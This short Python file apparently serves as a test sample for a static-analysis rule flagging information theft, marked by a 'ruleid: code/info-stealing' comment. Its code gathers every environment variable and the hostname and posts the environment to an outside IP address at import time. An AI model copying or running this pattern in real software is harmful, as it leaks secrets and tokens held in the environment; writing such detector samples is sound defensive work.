import os
import socket

import requests


def _send(payload):
    requests.post("https://203.0.113.10/api", json=payload, timeout=3)


def _collect():
    return {"env": dict(os.environ), "host": socket.gethostname()}


env = dict(os.environ)
# ruleid: code/info-stealing
_send(env)
